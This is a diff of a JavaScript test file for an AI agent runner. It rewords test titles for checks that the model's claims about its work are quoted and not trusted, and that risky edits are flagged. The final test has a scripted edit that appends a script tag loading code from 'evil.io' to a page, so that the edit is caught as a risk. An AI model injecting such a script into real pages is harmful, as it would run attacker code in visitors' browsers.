@@ -22,7 +22,7 @@ async function afterFirstTurn() {
   return journal;
 }
 
-test('changes that no pull request shows yet are the work of the next turn, whatever its model claims', async () => {
+test('changes that no pull request shows yet count as work of the next turn, whatever its model claims', async () => {
   for (const claim of ['changes', 'no_changes']) {
     const journal = await afterFirstTurn();
     const turn = { model: scriptedModel([finish(claim)]), files, journal, turn: 2, published: new Map() };
@@ -37,7 +37,7 @@ test('changes that no pull request shows yet are the work of the next turn, what
   }
 });
 
-test('changes that the pull request already shows aren’t work of the next turn', async () => {
+test('changes that the pull request already shows don’t count as work of the next turn', async () => {
   const journal = await afterFirstTurn();
   const { overlay: published } = journal;
   const turn = { model: scriptedModel([finish('no_changes')]), files, journal, turn: 2, published };
@@ -45,7 +45,7 @@ test('changes that the pull request already shows aren’t work of the next turn
   assert.equal(outcome.result, 'no_changes');
 });
 
-test('a question stays one, though there is work to be shown', async () => {
+test('a question ends the turn as a question, even if there is unpublished work', async () => {
   const journal = await afterFirstTurn();
   const turn = { model: scriptedModel([finish('needs_input')]), files, journal, turn: 2, published: new Map() };
   assert.equal((await runAgentTurn(testTurn(turn), never)).result, 'needs_input');
@@ -66,7 +66,7 @@ test('a blank prompt ends in a question without calling a model, and the next tu
   );
 });
 
-test('a model’s words about unpublished work are quoted, and aren’t a title', async () => {
+test('a model’s words about unpublished work are quoted and not used as a title', async () => {
   const claim = { title: 'Rewrite 40 pages', summary: 'I rewrote 40 pages.\nAll are better.' };
   for (const outcome of ['no_changes', 'needs_input', 'needs_model', 'blocked_by_policy']) {
     const model = scriptedModel([[{ tool: 'finish', input: { outcome, ...claim } }]]);
@@ -80,7 +80,7 @@ test('a model’s words about unpublished work are quoted, and aren’t a title'
   }
 });
 
-test('a model that denies its changes, or only talks, is quoted too', async () => {
+test('a model that denies its changes, or only talks, is also quoted', async () => {
   const denial = { outcome: 'no_changes', title: 'Nothing', summary: 'I changed nothing.' };
   const model = scriptedModel([
     ...edit.slice(0, 2),
@@ -94,7 +94,7 @@ test('a model that denies its changes, or only talks, is quoted too', async () =
   assert.match(talked.summary, /The model wrote:\n\n> I rewrote 40 pages\./);
 });
 
-test('a page that gains a script and pages that go unasked are risks of the outcome', async () => {
+test('a page that gains a script and pages that are deleted without a request are listed as risks', async () => {
   const script = [
     [{ tool: 'read', input: { path: 'guides/auth' } }],
     [{ tool: 'edit', input: { path: 'guides/auth', append: '<script src="https://evil.io/x.js"></script>' } }],
